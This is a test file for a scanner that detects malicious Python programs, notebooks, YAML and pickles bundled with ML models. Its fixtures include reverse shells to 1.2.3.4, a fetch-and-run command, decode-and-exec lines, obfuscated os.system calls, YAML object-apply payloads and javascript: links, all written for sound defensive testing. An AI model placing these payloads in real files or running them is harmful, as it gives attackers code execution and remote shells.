/** Python programs and notebooks beside models: what runs by itself, what is hidden, and how little ordinary code says. */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { lexPython } from "#formats/python.ts";
import { writeZip } from "#formats/writers.testing.ts";
import { scanPorts, scanPortsFor, withFile } from "#host/unpack.ts";
import { bytes, op, pickle } from "../../test/support/pickle.ts";
import { rulesOf, scanned } from "../../test/support/scan.ts";
import { judgeProgram } from "./program.ts";
import { scanFile } from "./scan.ts";

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const flagged = (source: string, name = "modeling.py"): string => scanned(utf8(source), name).verdict;

describe("a Python program", () => {
  test.each([
    ["decodes and runs", "import base64\nexec(base64.b64decode('aWQ='))"],
    ["decodes into a variable and runs that", "from zlib import decompress as d\nx = d(b'..')\ny = 1\neval(x)"],
    ["runs what it fetches", "import urllib.request as u\ncode = u.urlopen('http://x').read()\nexec(code)"],
    ["unmarshals and runs", "import marshal\nexec(marshal.loads(b''))"],
    ["spells out and runs", "exec(''.join(chr(c) for c in [112, 114]))"],
    ["hides so in a function", "def f():\n    import base64\n    exec(base64.b64decode('aWQ='))"],
    [
      "gives a shell away",
      "import socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',1))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
    ],
  ])("that %s is malicious", (_, source) => expect(flagged(source)).toBe("malicious"));
  test.each([
    ["runs a program on import", "import os\nos.system('id')"],
    ["does so under another name", "from os import system as s\ns('id')"],
    ["does so under a third name", "import os\nrun = os.system\nrun('id')"],
    ["finds the module by __import__", "__import__('os').system('id')"],
    ["finds it by importlib", "import importlib\nimportlib.import_module('subprocess').run(['id'])"],
    ["finds the function by getattr", "import os\ngetattr(os, 'sys' + 'tem')('id')"],
    ["makes the name up", "import os\ngetattr(os, name[::-1])('id')"],
    ["finds it in sys.modules", "import sys\nsys.modules['os'].system('id')"],
    ["finds it in a dictionary", "import os\nos.__dict__['system']('id')"],
    ["finds it among the built-ins", "__builtins__.eval(x)"],
    ["writes it in other letters", "𝘦𝘷𝘢𝘭(x)"],
    ["does so in a formatted text", "x = f\"{__import__('os').system('id')}\""],
    ["does so after a semicolon", "import os; os.system('id')"],
    ["does so over two lines", "import os\nos.\\\n  system('id')"],
    ["does so in a class's body", "import os\nclass A:\n    os.system('id')"],
    ["does so in a default", "import os\ndef f(x=os.system('id')): pass"],
    ["does so when a model is made", "import os\nclass A:\n    def __init__(self):\n        os.system('id')"],
    [
      "does so when a model is used",
      "import subprocess\nclass A:\n    def forward(self, x):\n        subprocess.run(['id'])",
    ],
    [
      "pickles itself as a command",
      "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
    ],
    ["loads native code on import", "import ctypes\nctypes.CDLL('./x.so')"],
    ["declares an encoding that hides it", "# -*- coding: utf-7 -*-\n+AGE-"],
  ])("that %s is suspicious", (_, source) => expect(flagged(source)).toBe("suspicious"));
  test("that runs programs on installation is suspicious as a setup script only", () => {
    const source = "import os\nclass I(install):\n    def run(self):\n        os.system('id')";
    expect(flagged(source, "setup.py")).toBe("suspicious");
    expect(flagged(source, "train.py")).toBe("unknown");
  });
  test.each([
    [
      "a training script",
      "import os\nimport torch\nimport subprocess\n\ndef main():\n    subprocess.run(['ls'])\n    torch.save(1, 'x')\n\nif __name__ == '__main__':\n    os.system('nvidia-smi')\n    main()",
    ],
    [
      "a model",
      "import torch.nn as nn\nclass Net(nn.Module):\n    def eval(self):\n        return super().eval()\n    def forward(self, x):\n        return self.net(x)\nnet = Net().eval()",
    ],
    ["a pattern", "import re\nP = re.compile('x')"],
    ["text about eval", "HELP = 'call os.system(x) or eval(x)'\nprint(HELP)"],
    [
      "its own path",
      "import os\nHERE = os.path.dirname(os.path.abspath(__file__))\nos.makedirs('out', exist_ok=True)\nos.environ['A'] = '1'",
    ],
  ])("that is %s is unknown: it is a program, and no more", (_, source) => {
    const file = scanned(utf8(source), "train.py");
    expect(file).toMatchObject({ verdict: "unknown", read: "whole" });
    expect(file.findings.filter(({ severity }) => severity !== "note").map(({ rule }) => rule)).toEqual(["python"]);
  });
  test("of nothing but texts, imports and constants has no code path", () => {
    expect(
      flagged('"""Doc."""\nfrom transformers import AutoModel\n__version__ = "1.0"\nSIZES = [1, 2]\n', "__init__.py"),
    ).toBe("no code path found");
    expect(flagged("from .modeling import Net\n", "__init__.py")).toBe("unknown");
    expect(flagged("X = f()\n")).toBe("unknown");
  });
  test("is told by its text where the name does not say", () =>
    expect(rulesOf(scanned(utf8("import os\nos.system('id')\n"), "model.bin"))).toContain("python-act"));
  const packages = "/usr/lib/python3/dist-packages/sklearn";
  test.skipIf(!existsSync(packages))("of scikit-learn is hardly ever flagged", () => {
    const files = readdirSync(packages, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".py"));
    const alarms = files.filter((name) =>
      judgeProgram(readFileSync(join(packages, name))).findings.some(({ severity }) => severity !== "note"),
    );
    expect(files.length).toBeGreaterThan(300);
    expect(alarms.length).toBeLessThanOrEqual(0.02 * files.length);
  });
});

test.each([
  "import unittest.__main__",
  "import numpy.f2py.__main__",
  "import math, tqdm.__main__ as t",
  "from IPython.__main__ import start",
  "from unittest import __main__ as m",
  "from numpy.f2py import (f2py2e, __main__ as m)",
])("a package's program is run by its import: %s is unknown", (source) => {
  expect(flagged(source)).toBe("unknown");
  expect(flagged(source.replaceAll("__main__", "main"))).toBe("no code path found");
});

describe("the lexer", () => {
  const texts = (source: string): readonly string[][] =>
    lexPython(utf8(source)).lines.map(({ tokens }) => tokens.map(({ text }) => text));
  test("joins lines in brackets and after backslashes, and leaves comments out", () =>
    expect(texts("f(a, # no\n  b)\nx = 1 + \\\n 2\n")).toEqual([
      ["f", "(", "a", ",", "b", ")"],
      ["x", "=", "1", "+", "2"],
    ]));
  test("parts statements at semicolons outside of brackets", () =>
    expect(texts("a;b = 1; f(;);\n;c")).toEqual([["a"], ["b", "=", "1"], ["f", "(", ";", ")"], ["c"]]));
  test("that stops before the end says so: such a program is unknown even if all before is constants", () => {
    const { findings, reading } = judgeProgram(utf8("a=1\n".repeat(1_000_100)));
    expect(findings.map(({ rule }) => rule)).toEqual(["limit-python"]);
    expect(reading.inert).toBe(false);
  });
  test("reads every kind of text", () => {
    expect(texts(`'a\\x62' "c" '''d\n'e''' r'\\f' b'g'`)).toEqual([["ab", "c", "d\n'e", "\\f", "g"]]);
    expect(lexPython(utf8("f'{a.b(1)} {{c}}'")).lines[0]!.tokens[0]!.within!.map(({ text }) => text)).toEqual([
      "a",
      ".",
      "b",
      "(",
      "1",
      ")",
    ]);
  });
  test("gives every token its place in the file", () => {
    const source = "é = 'ü' + os.system";
    const file = utf8(source);
    for (const { kind, text, start, end } of lexPython(file).lines[0]!.tokens)
      if (kind === "name") expect(new TextDecoder().decode(file.subarray(start, end))).toBe(text);
  });
  test("goes on after anything", () => {
    for (const source of ["'", "'''", "f'{", "((((", "\\", "\u0000\u0001", "f'{f\"{f'{a}'}\"}'"])
      expect(() => texts(source)).not.toThrow();
    expect(lexPython(utf8("(a")).broken).toBe(true);
  });
});

const notebook = (...sources: readonly (string | { source: string; outputs: object[] })[]): Uint8Array =>
  utf8(
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: sources.map((given) => {
        const { source, outputs } = typeof given === "string" ? { source: given, outputs: [] } : given;
        return { cell_type: "code", metadata: {}, source: source.split(/(?<=\n)/), outputs };
      }),
    }),
  );

describe("a notebook", () => {
  test.each([
    ["hides code", "import base64\nexec(base64.b64decode('aWQ='))", "malicious"],
    ["gives a shell away", "!bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "malicious"],
    ["decodes into a shell", "%%bash\necho aWQ= | base64 -d | sh", "malicious"],
    ["fetches into a shell", "!curl http://x | sh", "suspicious"],
    ["installs and trains", "!pip install torch\n%matplotlib inline\nimport torch\nx = !ls\ntorch.ones(3)", "unknown"],
    ["runs programs", "import os\nos.system('ls')", "unknown"],
    ["only imports", "%matplotlib inline\nimport numpy as np", "no code path found"],
    ["imports what nobody knows", "import acme", "unknown"],
  ])("that %s is judged so", (_, source, verdict) =>
    expect(scanned(notebook(source), "n.ipynb").verdict).toBe(verdict),
  );
  test.each([
    ["of no type", { source: "x = 1" }],
    ["of a type spelt otherwise", { cell_type: "CODE", source: "x = 1" }],
    ["with its code twice", { cell_type: "code", source: "x = 1", input: "y = 2" }],
    ["of another language", { cell_type: "code", language: "ruby", input: "x = 1" }],
  ])("with a cell %s is unknown", (_, cell) => {
    const of = (value: object): string => scanned(utf8(JSON.stringify(value)), "n.ipynb").verdict;
    expect(of({ nbformat: 4, cells: [cell] })).toBe("unknown");
    expect(of({ nbformat: 3, worksheets: [{ cells: [cell] }] })).toBe("unknown");
  });
  test("is read as its kernel would, and cells that are shown are not run", () => {
    const of = (language: string, cell: object): string =>
      scanned(utf8(JSON.stringify({ nbformat: 4, metadata: { kernelspec: { language } }, cells: [cell] })), "n.ipynb")
        .verdict;
    expect(of("python", { cell_type: "code", source: '"rm"' })).toBe("no code path found");
    expect(of("bash", { cell_type: "code", source: '"rm"' })).toBe("unknown");
    expect(of("bash", { cell_type: "markdown", source: "rm" })).toBe("no code path found");
    expect(of("python", { cell_type: "markdown", source: "<img onerror=\"fetch('/api/terminals')\">" })).toBe(
      "suspicious",
    );
    expect(of("python", { cell_type: "html", source: "<b>a</b>" })).toBe("no code path found");
  });
  test.each([
    ['<a href="java&#115;cript:alert(1)">x</a>', "unknown"],
    ["<a href='java&Tab;script&colon;alert(1)'>x</a>", "unknown"],
    ["[x](javascript:alert(1))", "unknown"],
    ["[x]: javascript:alert(1)", "unknown"],
    [String.raw`$$\href{javascript:alert(1)}{x}$$`, "unknown"],
    ["In JavaScript: a language. See [it](https://example.org/javascript)", "no code path found"],
  ])("with text that links to a script is unknown, and prose about one is not: %s", (source, verdict) => {
    const cells = [{ cell_type: "markdown", source }];
    expect(scanned(utf8(JSON.stringify({ nbformat: 4, cells })), "n.ipynb").verdict).toBe(verdict);
  });
  test("that brings the command of its kernel is unknown", () => {
    const of = (kernelspec: object): string =>
      scanned(utf8(JSON.stringify({ nbformat: 4, metadata: { kernelspec }, cells: [] })), "n.ipynb").verdict;
    expect(of({ name: "python3", argv: ["sh", "-c", "id"] })).toBe("unknown");
    expect(of({ name: "python3", display_name: "Python 3", language: "python" })).toBe("no code path found");
  });
  test("whose cells are no list is unknown", () =>
    expect(scanned(utf8(JSON.stringify({ nbformat: 4, cells: { a: 1 } })), "n.ipynb").verdict).toBe("unknown"));
  test("with an output that takes the kernel over is suspicious; one that draws is not", () => {
    const output = (html: string): object => ({ output_type: "display_data", data: { "text/html": [html] } });
    const of = (html: string): string =>
      scanned(notebook({ source: "import json", outputs: [output(html)] }), "n.ipynb").verdict;
    expect(of("<script>Jupyter.notebook.kernel.execute('x')</script>")).toBe("suspicious");
    expect(of("<script>draw()</script>")).toBe("no code path found");
  });
});

describe("text", () => {
  test("under a name that promises it is read whole and has no code path", () =>
    expect(scanned(utf8("# A model\nCall `os.system` never.\n"), "README.md")).toMatchObject({
      verdict: "no code path found",
      read: "whole",
    }));
  test("with control characters or no encoding is unknown", () => {
    expect(scanned(bytes("a\x00b"), "vocab.txt").verdict).toBe("unknown");
    expect(scanned(bytes("a\xff\xfe"), "vocab.txt").verdict).toBe("unknown");
  });
  test("under any other name is unknown", () =>
    expect(scanned(utf8("hello there\n"), "weights.bin").verdict).toBe("unknown"));
  test("that stands for a large file is not that file", () => {
    const pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a2146\nsize 12345\n";
    expect(scanned(utf8(pointer), "pytorch_model.bin").verdict).toBe("unknown");
    expect(rulesOf(scanned(utf8(pointer), "model.safetensors"))).toEqual(["lfs-pointer"]);
  });
  test.each([
    ["!!python/object/apply:os.system [id]", "malicious"],
    ["!!python/object/new:subprocess.Popen [[id]]", "malicious"],
    ["!!python/name:os.system", "suspicious"],
    ["!!python/object:acme.Net {}", "suspicious"],
    ["{ a: 1 }", "no code path found"],
    ["!!pyth%6fn/object/apply:os.system [id]", "malicious"],
    ['{ "\\x5ftarget_": os.system }', "malicious"],
    ["{ ? _target_ : os.system }", "malicious"],
    ["{ &k _target_: os.system }", "malicious"],
    ["{ _target_: sklearn.utils.acme }", "unknown"],
    ["!acme 1", "unknown"],
    ["a: 1", "unknown"],
  ])("in YAML with %s is %s", (yaml, verdict) => expect(scanned(utf8(`x: ${yaml}\n`), "c.yaml").verdict).toBe(verdict));
});

test.each([
  ["logging.cfg", "[handler_h]\nargs=(1,)\n"],
  ["graph.pbtxt", "node { }\n"],
  ["requirements.txt", "a @ git+https://x/y\n"],
  ["pyproject.toml", "[build-system]\n"],
  ["notes.txt", "a \u001b[2J\n"],
  ["a.py", "import evil\n"],
  ["__main__.py", "from evil2 import *\n"],
  ["modules.json", '[{"path": "", "type": "evil.Mod"}]'],
  ["model_index.json", '{"_class_name": "P", "unet": ["evil", "x"]}'],
])("%s that has others load code is unknown", (name, text) =>
  expect(scanned(utf8(text), name).verdict).toBe("unknown"),
);

describe("an import that a file beside takes the place of", () => {
  const numbers = pickle(bytes(op.global("numpy", "dtype"), op.tuple(op.str("f8")), op.reduce));
  const inert = utf8("import numpy as np\nimport sys\n");
  const besides = (name: string, content: Uint8Array, ...files: readonly string[]): readonly string[] => {
    const root = mkdtempSync(join(tmpdir(), "vauban-imports-"));
    try {
      for (const file of files) {
        mkdirSync(dirname(join(root, file)), { recursive: true });
        writeFileSync(join(root, file), "");
      }
      mkdirSync(dirname(join(root, name)), { recursive: true });
      writeFileSync(join(root, name), content);
      const file = join(root, name);
      const report = withFile(file, (within) => scanFile(name, within, scanPortsFor(file, scanPorts, name)));
      return [report.verdict, ...rulesOf(report)];
    } finally {
      rmSync(root, { recursive: true });
    }
  };
  test.each([
    ["a program", "a.py", inert, "python"],
    ["a program below it", "code/a.py", inert, "python"],
    ["a pickle", "a.pkl", numbers, "import-shadowed"],
    ["a pickle in an archive", "a.zip", writeZip([{ name: "a/data.pkl", content: numbers }]), "import-shadowed"],
  ] as const)("makes %s unknown", (_, name, content, rule) => {
    expect(besides(name, content)).toEqual(["no code path found"]);
    for (const file of ["numpy.py", "numpy/__init__.py", "numpy.pyc", "numpy.cpython-312-x86_64-linux-gnu.so"])
      expect(besides(name, content, file)).toEqual(["unknown", rule]);
    for (const file of ["numpy.txt", "numpy/data.csv", "sys.py", "my/numpy.py"])
      expect(besides(name, content, file)).toEqual(["no code path found"]);
  });
  const deep = pickle(op.global("numpy.core.multiarray", "_reconstruct"));
  test.each([
    ["a.pkl", deep],
    ["a.zip", writeZip([{ name: "a/data.pkl", content: deep }])],
  ] as const)("counts in a folder that is no package, under the whole name (PEP 420): %s", (name, content) => {
    for (const file of ["numpy/core/multiarray.py", "numpy/core/multiarray/__init__.py", "numpy/core/__init__.py"])
      expect(besides(name, content, file)).toEqual(["unknown", "import-shadowed"]);
    for (const file of ["numpy/core/other.py", "numpy/multiarray.py", "core/multiarray.py"])
      expect(besides(name, content, file)).toEqual(["no code path found"]);
  });
  test("in an archive counts where the member would find it", () => {
    const among = (name: string, beside: string): string =>
      scanned(
        writeZip([
          { name, content: inert },
          { name: beside, content: utf8("X = 1\n") },
        ]),
        "a.zip",
      ).verdict;
    expect(among("a.py", "numpy.py")).toBe("unknown");
    expect(among("pkg/a.py", "numpy/__init__.py")).toBe("unknown");
    expect(among("a.py", "pkg/numpy.py")).toBe("no code path found");
  });
});

test("a compiled module is unknown, or suspicious by what its code reaches; what follows it is unread", () => {
  const module = (code: Uint8Array): Uint8Array => bytes(0xa7, 0x0d, 13, 10, new Uint8Array(12), code);
  const i32 = (value: number): Uint8Array => new Uint8Array(Int32Array.of(value).buffer);
  const str = (text: string): Uint8Array => bytes("s", i32(text.length), text);
  const uni = (text: string): Uint8Array => bytes("z", text.length, text);
  const code = (instructions: string, ...names: readonly string[]): Uint8Array =>
    bytes(
      "c",
      i32(0),
      i32(0),
      i32(0),
      i32(1),
      i32(0),
      str(instructions),
      ")\x01N",
      ")",
      names.length,
      ...names.map(uni),
      ")\0",
      str(""),
      uni("m.py"),
      uni("m"),
      uni("m"),
      i32(1),
      str(""),
      str(""),
    );
  const name = "\x65\x00\x6a\x01";
  expect(scanned(module(code(name, "os", "system")), "m.pyc").verdict).toBe("suspicious");
  expect(scanned(module(code(name, "os", "path")), "m.pyc").verdict).toBe("unknown");
  expect(rulesOf(scanned(bytes(module(code(name, "os", "path")), "more"), "m.pyc"))).toContain("unread-bytes");
  expect(scanned(module(bytes("c")), "m.pyc").verdict).toBe("suspicious");
});

// Each of these once took time by the square of its size, or worse.
test.each([
  ["getattr within getattr", "getattr(".repeat(20_000), "a.py"],
  ["eval within eval", "eval(".repeat(20_000), "a.py"],
  ["a name that grows", "a = a.b\n".repeat(20_000), "a.py"],
  ["empty lines before a program", `${"\n".repeat(100_000)}import os`, "a.bin"],
  [
    "spaces in a cell",
    JSON.stringify({ nbformat: 4, cells: [{ cell_type: "code", source: " ".repeat(200_000) }] }),
    "a.ipynb",
  ],
  [
    "a command of many words",
    JSON.stringify({ nbformat: 4, cells: [{ cell_type: "code", source: `!${"curl ".repeat(40_000)}` }] }),
    "a.ipynb",
  ],
])("%s takes no longer than its size allows", (_, source, name) => {
  const before = process.cpuUsage();
  scanned(utf8(source), name);
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1e6).toBeLessThan(3);
});
